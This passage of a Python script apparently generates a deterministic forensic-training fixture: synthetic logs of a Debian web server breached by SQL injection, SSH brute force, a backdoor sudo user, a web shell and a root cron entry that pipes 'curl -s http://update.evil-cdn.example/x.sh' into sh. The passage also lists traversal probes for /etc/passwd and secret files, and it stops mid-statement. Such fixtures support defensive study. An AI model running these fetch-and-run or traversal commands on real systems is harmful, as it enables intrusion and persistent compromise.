#!/usr/bin/env python3
"""Generates fixtures/demo-case/: the evidence set of a compromised Debian web server "web1".

Python 3 standard library only, deterministic: a fixed random seed, gzip members with mtime 0
and no file name, and fixed file modification times (os.utime) so that year inference on the
year-less syslog stamps is reproducible. Rebuilding gives identical bytes and mtimes.

The story (all times UTC; syslog stamps carry no zone and are UTC on this host):

  2025-12-18 .. 2026-01-03  background: cron, php session cleaning, the admin 'alice' logging in
                            with a key from 192.0.2.10, CI deploying as 'deploy' from 10.0.0.5,
                            the usual internet SSH / web noise.
  2026-01-03 11:02  nikto scan of the shop from 203.0.113.5
             11:14  sqlmap against /products.php?id= ; 11:25 manual SQLi / path traversal
             11:34  attacker signs up in the shop app (e-mail in the IOC list)
             12:00  SSH password brute force from 203.0.113.5 (root, admin, invalid users, deploy)
             12:09  password of 'deploy' found; 12:11 interactive login with it
             12:12  sudo /bin/bash ; 12:13 useradd svc-backup (+ passwd, added to sudo)
             12:15  sudo tee -a /root/.ssh/authorized_keys ; 12:20 root login with that key
             12:31  web shell /uploads/shell.php?cmd=... ; 12:41 curl|sh through it
             12:43  root crontab replaced: */15 curl -s http://update.evil-cdn.example/x.sh | sh
             12:45  first cron run; implant kworkerd.service connects to 198.51.100.23:443
  2026-01-04 06:03  alice logs in and starts looking; evidence taken around 06:20

Rotation follows Debian's cron.daily slot (06:25): auth.log weekly (auth.log.1 plain,
auth.log.2.gz compressed, delaycompress; auth.log.1 spans the new year), nginx daily with its
previous day already compressed (access.log.1.gz), syslog daily (only the current file kept).
Addresses are documentation ranges (RFC 5737 / RFC 3849); web1 itself is 10.0.0.15.
"""

import datetime as dt
import gzip
import io
import json
import os
import random
import sys

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "demo-case")
ROOT = os.path.normpath(ROOT)

UTC = dt.timezone.utc
HOST = "web1"
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

ATTACKER = "203.0.113.5"
C2_IP = "198.51.100.23"
C2_URL = "http://update.evil-cdn.example/x.sh"
ADMIN_IP = "192.0.2.10"
CI_IP = "10.0.0.5"
WEB1_IP = "10.0.0.15"
BACKDOOR = "svc-backup"
ATTACKER_MAIL = "d3v0ps@evil-cdn.example"


def T(y, mo, d, h=0, mi=0, s=0, us=0):
    return dt.datetime(y, mo, d, h, mi, s, us, tzinfo=UTC)


# Evidence windows. Each logical log is split into its physical files by time.
WIN_START = T(2025, 12, 18, 6, 25, 3)
AUTH_ROT2 = T(2025, 12, 25, 6, 25, 3)  # auth.log.2.gz | auth.log.1
AUTH_ROT1 = T(2026, 1, 1, 6, 25, 3)  # auth.log.1 | auth.log
DAILY_ROT1 = T(2026, 1, 3, 6, 25, 3)  # access.log.1.gz | access.log, start of syslog
DAILY_ROT2 = T(2026, 1, 2, 6, 25, 3)  # start of access.log.1.gz
WIN_END = T(2026, 1, 4, 6, 21, 0)  # evidence taken
MTIME_CURRENT = T(2026, 1, 4, 6, 25, 0)

FILES = {
    # path: (logical log, start, end, gzip?, mtime)
    "var/log/auth.log.2.gz": ("auth", WIN_START, AUTH_ROT2, True, T(2025, 12, 25, 6, 25, 3)),
    "var/log/auth.log.1": ("auth", AUTH_ROT2, AUTH_ROT1, False, T(2026, 1, 1, 6, 25, 3)),
    "var/log/auth.log": ("auth", AUTH_ROT1, WIN_END, False, MTIME_CURRENT),
    "var/log/syslog": ("syslog", DAILY_ROT1, WIN_END, False, MTIME_CURRENT),
    "var/log/nginx/access.log.1.gz": ("nginx", DAILY_ROT2, DAILY_ROT1, True, T(2026, 1, 3, 6, 25, 3)),
    "var/log/nginx/access.log": ("nginx", DAILY_ROT1, WIN_END, False, MTIME_CURRENT),
    "app/events.jsonl": ("app", DAILY_ROT2, WIN_END, False, MTIME_CURRENT),
}

rng = random.Random(20260103)

# Long-running daemons keep their pids.
PID_LOGIND = 402
PID_RSYSLOG = 503
PID_CRON = 598
PID_PHPFPM = 689


class Builder:
    """Collects process groups, hands out increasing pids in time order, renders lines."""

    def __init__(self):
        self.groups = []  # (t, seq, fn)
        self.lines = {"auth": [], "syslog": [], "nginx": [], "app": []}
        self.seq = 0

    def group(self, t, fn):
        """fn(pid) -> list of (log, t, line); pid and pid+1 belong to the group."""
        self.groups.append((t, self.seq, fn))
        self.seq += 1

    def line(self, log, t, text):
        self.lines[log].append((t, len(self.lines[log]), text))

    def render(self):
        pid = 107812
        for t, _, fn in sorted(self.groups, key=lambda g: (g[0], g[1])):
            pid += rng.randint(2, 23)
            for log, lt, text in fn(pid):
                self.line(log, lt, text)
            if pid > 400000:
                raise SystemExit("pid space ran away")


B = Builder()


def stamp(t):
    return "%s %2d %02d:%02d:%02d" % (MONTHS[t.month - 1], t.day, t.hour, t.minute, t.second)


def sl(log, t, prog, msg, pid=None):
    tag = "%s[%d]" % (prog, pid) if pid is not None else prog
    return (log, t, "%s %s %s: %s" % (stamp(t), HOST, tag, msg))


def sec(n):
    return dt.timedelta(seconds=n)


def days(start, end):
    d = start.replace(hour=0, minute=0, second=0, microsecond=0)
    while d < end:
        yield d
        d += dt.timedelta(days=1)


def fingerprint():
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    # 32 bytes in unpadded base64: the 43rd character carries 4 bits only
    return "SHA256:" + "".join(rng.choice(alphabet) for _ in range(42)) + rng.choice(alphabet[::4])


def avoid_lookalike(ip):
    """Keeps bystanders clear of the story's addresses, also as text prefixes (203.0.113.55)."""
    for special in (ATTACKER, C2_IP, ADMIN_IP):
        if ip.startswith(special):
            return "192.0.2.77"
    return ip


def noise_ip():
    r = rng.random()
    if r < 0.12:
        return "2001:db8:%x:%x::%x" % (rng.randint(1, 0xffff), rng.randint(1, 0xffff), rng.randint(1, 0xff))
    pool = rng.choice(["198.51.100.%d", "203.0.113.%d", "192.0.2.%d"])
    n = rng.randint(30, 250)
    return avoid_lookalike(pool % n)


FP_ALICE = fingerprint()
FP_CI = fingerprint()
FP_EVIL = fingerprint()

# ---------------------------------------------------------------- background: cron & systemd


def cron_job(t, cmd, syslog_extra=None):
    def fn(pid):
        out = [
            sl("auth", t, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid),
            sl("syslog", t, "CRON", "(root) CMD (%s)" % cmd, pid + 1),
        ]
        if syslog_extra:
            out += [sl("syslog", t + sec(o), "CRON", m, pid + 1) for o, m in syslog_extra]
        close = t + sec(rng.choice([0, 0, 0, 1]))
        out.append(sl("auth", close, "CRON", "pam_unix(cron:session): session closed for user root", pid))
        return out

    B.group(t, fn)


def systemd_unit(t, unit, desc, took=1, extra=None):
    def fn(pid):
        out = [sl("syslog", t, "systemd", "Starting %s - %s..." % (unit, desc), 1)]
        for o, prog, m in extra or []:
            out.append(sl("syslog", t + sec(o), prog, m, pid))
        end = t + sec(took)
        out.append(sl("syslog", end, "systemd", "%s: Deactivated successfully." % unit, 1))
        out.append(sl("syslog", end, "systemd", "Finished %s - %s." % (unit, desc), 1))
        return out

    B.group(t, fn)


for day in days(WIN_START, WIN_END + dt.timedelta(days=1)):
    for h in range(24):
        t = day + dt.timedelta(hours=h, minutes=17, seconds=1)
        if WIN_START <= t < WIN_END:
            cron_job(t, "cd / && run-parts --report /etc/cron.hourly")
    t = day + dt.timedelta(hours=6, minutes=25, seconds=1)
    if WIN_START <= t < WIN_END:
        cron_job(t, "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }")
    if day.weekday() == 6:  # Sunday 06:47 weekly
        t = day + dt.timedelta(hours=6, minutes=47, seconds=1)
        if WIN_START <= t < WIN_END:
            cron_job(t, "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }")
    if day >= DAILY_ROT1 - dt.timedelta(days=1):
        # syslog-only background (the syslog evidence covers one day)
        for h in range(24):
            for m in (9, 39):
                t = day + dt.timedelta(hours=h, minutes=m, seconds=rng.randint(1, 40))
                systemd_unit(t, "phpsessionclean.service", "Clean php session files", took=0)
        t = day + dt.timedelta(hours=rng.randint(7, 20), minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
        systemd_unit(t, "apt-daily.service", "Daily apt download activities", took=3)
        t = day + dt.timedelta(hours=6, minutes=rng.randint(2, 20), seconds=rng.randint(0, 59))
        systemd_unit(t, "apt-daily-upgrade.service", "Daily apt upgrade and clean activities", took=2)
        t = day + dt.timedelta(hours=rng.randint(0, 3), minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
        systemd_unit(t, "man-db.service", "Daily man-db regeneration", took=4)
        t = day + dt.timedelta(hours=rng.randint(8, 18), minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
        systemd_unit(t, "systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories", took=0)
        t = day + dt.timedelta(minutes=rng.randint(0, 9), seconds=rng.randint(0, 59))
        systemd_unit(t, "dpkg-db-backup.service", "Daily dpkg database backup service", took=0)
        t = day + dt.timedelta(hours=rng.randint(0, 23), minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
        systemd_unit(t, "e2scrub_all.service", "Online ext4 Metadata Check for All Filesystems", took=0)

B.line("syslog", DAILY_ROT1, "%s %s rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" "
       "x-pid=\"%d\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed" % (stamp(DAILY_ROT1), HOST, PID_RSYSLOG))

# kernel firewall noise and time sync in syslog
t = DAILY_ROT1
while t < WIN_END:
    t += sec(rng.randint(900, 4200))
    if t >= WIN_END:
        break
    src = noise_ip()
    if ":" in src:
        src = "192.0.2.%d" % rng.randint(100, 250)
    dpt = rng.choice([23, 445, 3389, 8080, 5900, 6379, 2375, 1433, 81, 8443])
    up = (t - T(2025, 11, 29, 2, 11, 40)).total_seconds()
    B.line("syslog", t, "%s %s kernel: [%.6f] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:3a:91:7e:fe:54:00:1c:02:f1:08:00 "
           "SRC=%s DST=%s LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0"
           % (stamp(t), HOST, up + rng.random(), src, WEB1_IP, rng.randint(230, 250), rng.randint(1, 65000),
              rng.randint(30000, 65000), dpt))
for h in (3, 11, 19, 27):
    t = DAILY_ROT1 + dt.timedelta(hours=h, minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
    if t < WIN_END:
        B.line("syslog", t, "%s %s systemd-timesyncd[388]: Contacted time server 10.0.0.1:123 (ntp.internal)." % (stamp(t), HOST))


# ---------------------------------------------------------------- background: SSH sessions


def ssh_login(t, user, uid, ip, method, fp=None, dur=600):
    """An interactive SSH session."""

    def fn(pid):
        session = next_session()
        port = rng.randint(40000, 65000)
        tail = " ssh2: ED25519 %s" % fp if method == "publickey" else " ssh2"
        out = [
            sl("auth", t, "sshd", "Accepted %s for %s from %s port %d%s" % (method, user, ip, port, tail), pid),
            sl("auth", t, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), pid),
            sl("auth", t, "systemd-logind", "New session %d of user %s." % (session, user), PID_LOGIND),
            sl("auth", t + sec(1), "(systemd)", "pam_unix(systemd-user:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), pid + 1),
        ]
        end = t + sec(dur)
        out += [
            sl("auth", end, "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (ip, port), pid),
            sl("auth", end, "sshd", "Disconnected from user %s %s port %d" % (user, ip, port), pid),
            sl("auth", end, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, pid),
            sl("auth", end, "systemd-logind", "Session %d logged out. Waiting for processes to exit." % session, PID_LOGIND),
            sl("auth", end, "systemd-logind", "Removed session %d." % session, PID_LOGIND),
        ]
        return out

    B.group(t, fn)


def sudo(t, user, uid, cmd, pwd, tty="pts/0", dur=2, fail=0):
    def fn(pid):
        out = []
        if fail:
            out.append(sl("auth", t - sec(6), "sudo", "pam_unix(sudo:auth): authentication failure; logname=%s uid=%d euid=0 "
                          "tty=/dev/%s ruser=%s rhost=  user=%s" % (user, uid, tty, user, user)))
        out.append(sl("auth", t, "sudo", "%8s : %sTTY=%s ; PWD=%s ; USER=root ; COMMAND=%s"
                      % (user, "%d incorrect password attempt ; " % fail if fail else "", tty, pwd, cmd)))
        out.append(sl("auth", t, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (user, uid)))
        out.append(sl("auth", t + sec(dur), "sudo", "pam_unix(sudo:session): session closed for user root"))
        return out

    B.group(t, fn)


session_no = [3]


def next_session():
    """Called while rendering (groups render in time order), so numbers increase with time."""
    session_no[0] += rng.randint(1, 3)
    return session_no[0]


# alice: admin, key from the office
ALICE_CMDS = ["/usr/bin/apt-get update", "/usr/bin/apt-get -y upgrade", "/usr/bin/systemctl reload nginx",
              "/usr/bin/journalctl -u php8.2-fpm --since today", "/usr/bin/tail -n 200 /var/log/nginx/error.log",
              "/usr/sbin/nginx -t", "/usr/bin/df -h"]
for day, hh in [(T(2025, 12, 18), 14), (T(2025, 12, 19), 9), (T(2025, 12, 22), 10), (T(2025, 12, 23), 16),
                (T(2025, 12, 29), 9), (T(2025, 12, 30), 11), (T(2026, 1, 2), 9), (T(2026, 1, 3), 8)]:
    t = day + dt.timedelta(hours=hh, minutes=rng.randint(0, 50), seconds=rng.randint(0, 59))
    if t < WIN_START:
        continue
    dur = rng.randint(600, 2400)
    ssh_login(t, "alice", 1000, ADMIN_IP, "publickey", FP_ALICE, dur)
    o = 40
    for i in range(rng.randint(1, 3)):
        o += rng.randint(30, 300)
        fail = 1 if (day == T(2025, 12, 29) and i == 0) else 0
        sudo(t + sec(o), "alice", 1000, rng.choice(ALICE_CMDS), "/home/alice", fail=fail)

# CI deployments as deploy from the internal runner, with a key
for day in [T(2025, 12, 19), T(2025, 12, 23), T(2025, 12, 30), T(2026, 1, 2)]:
    t = day + dt.timedelta(hours=14, minutes=rng.randint(0, 40), seconds=rng.randint(0, 59))
    ssh_login(t, "deploy", 1001, CI_IP, "publickey", FP_CI, rng.randint(20, 50))
    sudo(t + sec(14), "deploy", 1001, "/usr/bin/systemctl reload php8.2-fpm", "/srv/shop", tty="unknown", dur=0)

# internet SSH noise
NOISE_USERS = ["ubuntu", "test", "user", "oracle", "postgres", "git", "pi", "ftpuser", "admin", "guest", "es", "hadoop"]


def ssh_noise(t):
    kind = rng.choice(["closed", "closed", "bye", "invalid", "invalid", "kex", "banner", "negotiate", "rootfail"])

    def fn(pid):
        ip = noise_ip()
        port = rng.randint(30000, 65000)
        if kind == "closed":
            return [sl("auth", t, "sshd", "Connection closed by %s port %d [preauth]" % (ip, port), pid)]
        if kind == "bye":
            return [sl("auth", t, "sshd", "Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ip, port), pid),
                    sl("auth", t, "sshd", "Disconnected from %s port %d [preauth]" % (ip, port), pid)]
        if kind == "kex":
            return [sl("auth", t, "sshd", "error: kex_exchange_identification: Connection closed by remote host", pid),
                    sl("auth", t, "sshd", "Connection closed by %s port %d" % (ip, port), pid)]
        if kind == "banner":
            return [sl("auth", t, "sshd", "banner exchange: Connection from %s port %d: invalid format" % (ip, port), pid)]
        if kind == "negotiate":
            return [sl("auth", t, "sshd", "Unable to negotiate with %s port %d: no matching host key type found. "
                       "Their offer: ssh-rsa,ssh-dss [preauth]" % (ip, port), pid)]
        if kind == "rootfail":
            t2 = t + sec(2)
            return [sl("auth", t2, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                       "ruser= rhost=%s  user=root" % ip, pid),
                    sl("auth", t2 + sec(2), "sshd", "Failed password for root from %s port %d ssh2" % (ip, port), pid),
                    sl("auth", t2 + sec(3), "sshd", "Connection closed by authenticating user root %s port %d [preauth]" % (ip, port), pid)]
        user = rng.choice(NOISE_USERS)
        t2 = t + sec(2)
        return [sl("auth", t, "sshd", "Invalid user %s from %s port %d" % (user, ip, port), pid),
                sl("auth", t2, "sshd", "pam_unix(sshd:auth): check pass; user unknown", pid),
                sl("auth", t2, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s" % ip, pid),
                sl("auth", t2 + sec(2), "sshd", "Failed password for invalid user %s from %s port %d ssh2" % (user, ip, port), pid),
                sl("auth", t2 + sec(3), "sshd", "Connection closed by invalid user %s %s port %d [preauth]" % (user, ip, port), pid)]

    B.group(t, fn)


t = WIN_START
while True:
    t += sec(rng.randint(2400, 16000))
    if t >= WIN_END:
        break
    ssh_noise(t)

# ---------------------------------------------------------------- the attack: SSH

BF_START = T(2026, 1, 3, 12, 0, 1)
BF_USERS = ["root"] * 10 + ["admin", "admin", "test", "ubuntu", "user", "oracle", "postgres", "git", "www", "support",
                            "deploy", "deploy"]
VALID = {"root": 0, "deploy": 1001}


def bf_connection(t, user, tries, success=False, maxed=False):
    def fn(pid):
        ip = ATTACKER
        port = rng.randint(33000, 60999)
        out = []
        c = t
        invalid = user not in VALID
        if invalid:
            out.append(sl("auth", c, "sshd", "Invalid user %s from %s port %d" % (user, ip, port), pid))
        c += sec(rng.choice([1, 2]))
        if invalid:
            out.append(sl("auth", c, "sshd", "pam_unix(sshd:auth): check pass; user unknown", pid))
            out.append(sl("auth", c, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                          "ruser= rhost=%s" % ip, pid))
        else:
            out.append(sl("auth", c, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                          "ruser= rhost=%s  user=%s" % (ip, user), pid))
        who = "invalid user %s" % user if invalid else user
        for i in range(tries):
            c += sec(rng.choice([1, 2, 2, 3]))
            out.append(sl("auth", c, "sshd", "Failed password for %s from %s port %d ssh2" % (who, ip, port), pid))
        if success:
            session = next_session()
            c += sec(2)
            out.append(sl("auth", c, "sshd", "Accepted password for %s from %s port %d ssh2" % (user, ip, port), pid))
            out.append(sl("auth", c, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, VALID[user]), pid))
            out.append(sl("auth", c, "systemd-logind", "New session %d of user %s." % (session, user), PID_LOGIND))
            out.append(sl("auth", c + sec(1), "(systemd)", "pam_unix(systemd-user:session): session opened for user %s(uid=%d) by (uid=0)" % (user, VALID[user]), pid + 1))
            c += sec(1)
            out += [sl("auth", c, "sshd", "Received disconnect from %s port %d:11: Bye Bye" % (ip, port), pid),
                    sl("auth", c, "sshd", "Disconnected from user %s %s port %d" % (user, ip, port), pid),
                    sl("auth", c, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, pid),
                    sl("auth", c, "systemd-logind", "Session %d logged out. Waiting for processes to exit." % session, PID_LOGIND),
                    sl("auth", c, "systemd-logind", "Removed session %d." % session, PID_LOGIND)]
            return out
        kind = "invalid user" if invalid else "authenticating user"
        if maxed:
            c += sec(1)
            out.append(sl("auth", c, "sshd", "error: maximum authentication attempts exceeded for %s from %s port %d ssh2 [preauth]"
                          % (who, ip, port), pid))
            out.append(sl("auth", c, "sshd", "Disconnecting %s %s port %d: Too many authentication failures [preauth]"
                          % (kind, ip, port), pid))
        else:
            c += sec(1)
            out.append(sl("auth", c, "sshd", "Connection closed by %s %s %s port %d [preauth]" % (kind, user, ip, port), pid))
        if tries > 1:
            n = tries - 1
            out.append(sl("auth", c, "sshd", "PAM %d more authentication failure%s; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s"
                          % (n, "s" if n > 1 else "", ip, "" if invalid else "  user=%s" % user), pid))
        return out

    B.group(t, fn)


t = BF_START
n_conn = 0
while t < T(2026, 1, 3, 12, 9, 40):
    user = rng.choice(BF_USERS)
    maxed = user == "root" and rng.random() < 0.08
    tries = 6 if maxed else rng.choice([1, 2, 3, 3])
    bf_connection(t, user, tries, maxed=maxed)
    n_conn += 1
    t += sec(rng.choice([3, 4, 5, 5, 6, 7]))  # a handful of parallel hydra tasks
bf_connection(T(2026, 1, 3, 12, 9, 41), "deploy", 1, success=True)

# interactive login as deploy with the guessed password
DEPLOY_LOGIN = T(2026, 1, 3, 12, 11, 42)
ssh_login(DEPLOY_LOGIN, "deploy", 1001, ATTACKER, "password", dur=290)
sudo(T(2026, 1, 3, 12, 12, 2), "deploy", 1001, "/usr/bin/id", "/home/deploy", dur=0)
sudo(T(2026, 1, 3, 12, 12, 30), "deploy", 1001, "/bin/bash", "/home/deploy", dur=152)


def backdoor(pid):
    t = T(2026, 1, 3, 12, 13, 52)
    return [
        sl("auth", t, "groupadd", "group added to /etc/group: name=%s, GID=1002" % BACKDOOR, pid),
        sl("auth", t, "groupadd", "group added to /etc/gshadow: name=%s" % BACKDOOR, pid),
        sl("auth", t, "groupadd", "new group: name=%s, GID=1002" % BACKDOOR, pid),
        sl("auth", t, "useradd", "new user: name=%s, UID=1002, GID=1002, home=/home/%s, shell=/bin/bash, from=/dev/pts/0"
           % (BACKDOOR, BACKDOOR), pid + 1),
        sl("auth", t + sec(13), "passwd", "pam_unix(passwd:chauthtok): password changed for %s" % BACKDOOR, pid + 2),
        sl("auth", t + sec(28), "usermod", "add '%s' to group 'sudo'" % BACKDOOR, pid + 3),
        sl("auth", t + sec(28), "usermod", "add '%s' to shadow group 'sudo'" % BACKDOOR, pid + 3),
    ]


B.group(T(2026, 1, 3, 12, 13, 52), backdoor)
sudo(T(2026, 1, 3, 12, 15, 48), "deploy", 1001, "/usr/bin/tee -a /root/.ssh/authorized_keys", "/home/deploy", dur=0)
ROOT_LOGIN = T(2026, 1, 3, 12, 20, 14)
ssh_login(ROOT_LOGIN, "root", 0, ATTACKER, "publickey", FP_EVIL, dur=1661)

# persistence: root crontab, first runs, the implant
CRONTAB_T = T(2026, 1, 3, 12, 43, 27)


def crontab_replace(pid):
    return [sl("syslog", CRONTAB_T, "crontab", "(root) REPLACE (root)", pid),
            sl("syslog", T(2026, 1, 3, 12, 44, 1), "cron", "(root) RELOAD (crontabs/root)", PID_CRON)]


B.group(CRONTAB_T, crontab_replace)

MAL_CMD = "curl -s %s | sh" % C2_URL
t = T(2026, 1, 3, 12, 45, 1)
first = True
while t < WIN_END:
    cron_job(t, MAL_CMD, [(1, "(CRON) info (No MTA installed, discarding output)")] if first else None)
    first = False
    t += dt.timedelta(minutes=15)


def implant(pid):
    t = T(2026, 1, 3, 12, 45, 3)
    out = [sl("syslog", t, "systemd", "Reloading.", 1),
           sl("syslog", t + sec(1), "systemd", "Started kworkerd.service - Kernel Worker Daemon.", 1),
           sl("syslog", t + sec(1), "kworkerd", "[+] connecting to %s:443" % C2_IP, pid),
           sl("syslog", t + sec(2), "kworkerd", "[+] connected to %s:443, session 7f3a91c2" % C2_IP, pid)]
    c = t + sec(2)
    for _ in range(3):
        c += sec(rng.randint(3 * 3600, 6 * 3600))
        if c >= WIN_END:
            break
        out.append(sl("syslog", c, "kworkerd", "[-] connection reset by peer, retrying %s:443 in 30s" % C2_IP, pid))
        out.append(sl("syslog", c + sec(30), "kworkerd", "[+] connected to %s:443, session %08x" % (C2_IP, rng.getrandbits(32)), pid))
    return out


B.group(T(2026, 1, 3, 12, 45, 3), implant)

# the next morning: alice notices
ALICE_IR = T(2026, 1, 4, 6, 3, 12)
ssh_login(ALICE_IR, "alice", 1000, ADMIN_IP, "publickey", FP_ALICE, dur=1400)
sudo(T(2026, 1, 4, 6, 4, 40), "alice", 1000, "/usr/bin/less /var/log/auth.log", "/home/alice", dur=95)
sudo(T(2026, 1, 4, 6, 9, 2), "alice", 1000, "/usr/bin/crontab -l -u root", "/home/alice", dur=0)
B.group(T(2026, 1, 4, 6, 9, 2), lambda pid: [sl("syslog", T(2026, 1, 4, 6, 9, 2), "crontab", "(root) LIST (root)", pid)])
sudo(T(2026, 1, 4, 6, 11, 30), "alice", 1000, "/usr/bin/systemctl status kworkerd.service", "/home/alice", dur=0)

# php-fpm under the nikto load
for t in [T(2026, 1, 3, 11, 4, 19), T(2026, 1, 3, 11, 15, 2)]:
    B.line("syslog", t, "%s %s php-fpm8.2[%d]: [WARNING] [pool www] server reached pm.max_children setting (5), "
           "consider raising it" % (stamp(t), HOST, PID_PHPFPM))

# ---------------------------------------------------------------- nginx

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.135 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]
SITE = "https://shop.example.com"
PAGES = [("/", 8412), ("/products", 15220), ("/products/12", 9632), ("/products/27", 9511), ("/products/31", 9874),
         ("/products/42", 9702), ("/cart", 4471), ("/about", 5120), ("/contact", 4893), ("/search?q=hiking+boots", 12011),
         ("/search?q=rain+jacket", 11872), ("/login", 3980)]
ASSETS = [("/static/css/main.css", 18322), ("/static/js/app.js", 48211), ("/static/img/logo.svg", 3120),
          ("/favicon.ico", 1150)]


def clf(t):
    return "%02d/%s/%d:%02d:%02d:%02d +0000" % (t.day, MONTHS[t.month - 1], t.year, t.hour, t.minute, t.second)


def access(t, ip, method, url, status, size, ref="-", ua="-", proto="HTTP/1.1"):
    B.line("nginx", t, '%s - - [%s] "%s %s %s" %d %d "%s" "%s"' % (ip, clf(t), method, url, proto, status, size, ref, ua))


def visitor_ip():
    r = rng.random()
    if r < 0.1:
        return "2001:db8:%x:%x:%x:%x:%x:%x" % tuple(rng.randint(1, 0xffff) for _ in range(6))
    return avoid_lookalike(rng.choice(["198.51.100.%d", "203.0.113.%d", "192.0.2.%d"]) % rng.randint(30, 250))


t = DAILY_ROT2
while t < WIN_END:
    hour = t.hour
    busy = 1.0 if 7 <= hour <= 21 else 0.35
    t += sec(int(rng.expovariate(busy / 600.0)) + 1)
    if t >= WIN_END:
        break
    ip, ua = visitor_ip(), rng.choice(BROWSERS)
    proto = "HTTP/2.0" if "Firefox" in ua or "Chrome" in ua else "HTTP/1.1"
    page, size = rng.choice(PAGES)
    ref = rng.choice(["-", "https://www.google.com/", SITE + "/", SITE + "/products"])
    access(t, ip, "GET", page, 200, size + rng.randint(-40, 40), ref, ua, proto)
    if rng.random() < 0.35:
        for a, asize in rng.sample(ASSETS, 2):
            access(t + sec(1), ip, "GET", a, 200, asize, SITE + page, ua, proto)
    if page == "/cart" and rng.random() < 0.4:
        access(t + sec(rng.randint(20, 90)), ip, "POST", "/checkout", 302, 0, SITE + "/cart", ua, proto)
for day in (T(2026, 1, 2), T(2026, 1, 3)):
    for _ in range(9):
        t = day + dt.timedelta(seconds=rng.randint(0, 86399))
        page, size = rng.choice(PAGES[:6] + [("/robots.txt", 67), ("/sitemap.xml", 2210)])
        access(t, rng.choice(["192.0.2.%d", "198.51.100.%d"]) % rng.randint(150, 170), "GET", page, 200, size, "-",
               rng.choice(BOTS))
    # the background hum of internet scanners
    for path, st, sz in [("/.env", 404, 153), ("/wp-login.php", 404, 153), ("/.git/config", 404, 153),
                         ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 153)]:
        t = day + dt.timedelta(seconds=rng.randint(0, 86399))
        access(t, noise_ip(), "GET", path, st, sz, "-",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36")

# nikto from the attacker
NIKTO_PATHS = [
    "/", "/robots.txt", "/admin/", "/phpmyadmin/", "/.git/HEAD", "/.env", "/server-status", "/cgi-bin/test-cgi",
    "/cgi-bin/printenv", "/backup.zip", "/config.php.bak", "/wp-login.php", "/administrator/", "/test.php", "/info.php",
    "/phpinfo.php", "/icons/README", "/manual/", "/.htaccess", "/.htpasswd", "/admin.php", "/login.php",
    "/examples/servlets/index.html", "/crossdomain.xml", "/clientaccesspolicy.xml", "/webdav/", "/db/", "/database.sql",
    "/dump.sql", "/backup/", "/old/", "/tmp/", "/logs/", "/includes/", "/uploads/", "/.DS_Store", "/web.config",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/index.php?page=../../../../../../etc/passwd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/wp-config.php.bak", "/config/database.yml",
    "/server-info", "/nginx_status", "/console/", "/jmx-console/", "/solr/admin/", "/.svn/entries", "/.aws/credentials",
    "/xmlrpc.php", "/readme.html", "/CHANGELOG.txt", "/install.php", "/setup.php", "/shell.php", "/cmd.php",
]
t = T(2026, 1, 3, 11, 2, 14)
test_id = 0
for i, path in enumerate(NIKTO_PATHS + ["/%s.%s" % ("".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                                                    for _ in range(8)), ext)
